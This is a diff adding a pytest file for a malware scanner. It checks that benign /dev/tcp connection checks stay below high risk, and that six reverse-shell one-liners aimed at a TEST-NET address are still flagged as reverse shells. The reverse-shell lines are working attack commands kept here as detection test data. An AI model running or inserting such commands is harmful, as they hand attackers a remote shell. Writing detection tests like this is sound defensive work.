@@ -1,0 +1,60 @@
+"""Round 12's false-alarm classes (helper D), each a harmless fixture beside a malicious twin.
+
+Every harmless fixture (how a popular release does the thing) must stay below high; every twin
+(the same shape doing harm) must still be high or critical with the threat named for it.
+Addresses are TEST-NET or ``.invalid``; nothing here is ever run.
+"""
+
+from __future__ import annotations
+
+import pytest
+
+from tests.core.capabilities.variant_scan import HIGH, assert_high_with, scan
+
+
+def _sub(tmp_path, name: str):
+    (tmp_path / name).mkdir()
+    return tmp_path / name
+
+
+# ---------------------------------------------------------------- /dev/tcp opened, not wired
+# craft-providers asks whether the network is up with bash -c 'exec 3<> /dev/tcp/host/443', and
+# a Dockerfile's health check runs ':> /dev/tcp/127.0.0.1/9000': a connection opened and closed.
+# A reverse shell points a shell's input at the connection (0>&1, <&3, 0<, | sh, while read).
+NETWORK_CHECK = (
+    "import subprocess\n\n\ndef network_connected():\n"
+    "    command = ['bash', '-c', 'exec 3<> /dev/tcp/example.invalid/443']\n"
+    "    return subprocess.run(command, check=False, timeout=10).returncode == 0\n"
+)
+HEALTHCHECK = (
+    "FROM alpine:3.20\n# healthcheck: timeout 5s bash -c ':> /dev/tcp/127.0.0.1/9000' || exit 1\n"
+    "RUN apk add --no-cache bash\n"
+)
+
+
+def test_a_dev_tcp_connection_opened_and_closed_is_no_reverse_shell(tmp_path):
+    files = {
+        "pkg/__init__.py": "X = 1\n",
+        "pkg/base.py": NETWORK_CHECK,
+        "pkg/docker/Dockerfile.minio": HEALTHCHECK,
+    }
+    result = scan(files, tmp_path)
+    assert "chain.reverse_shell" not in {t.id for t in result.threats}
+    assert result.risk.level not in HIGH
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "bash -i >& /dev/tcp/203.0.113.5/443 0>&1",
+        "exec 3<> /dev/tcp/203.0.113.5/443; sh <&3 >&3 2>&3",
+        "/bin/bash -l > /dev/tcp/203.0.113.5/443 0<&1 2>&1",
+        "exec 5<>/dev/tcp/203.0.113.5/443; cat <&5 | while read l; do $l >&5; done",
+        "cat < /dev/tcp/203.0.113.5/443 | sh",
+        "sh 0</dev/tcp/203.0.113.5/443 1>&0 2>&0",
+    ],
+)
+def test_a_shell_reading_from_dev_tcp_is_still_a_reverse_shell(tmp_path, line):
+    code = NETWORK_CHECK.replace("exec 3<> /dev/tcp/example.invalid/443", line)
+    files = {"pkg/__init__.py": "from pkg.base import network_connected\n", "pkg/base.py": code}
+    assert_high_with(line, scan(files, tmp_path), {"chain.reverse_shell"})
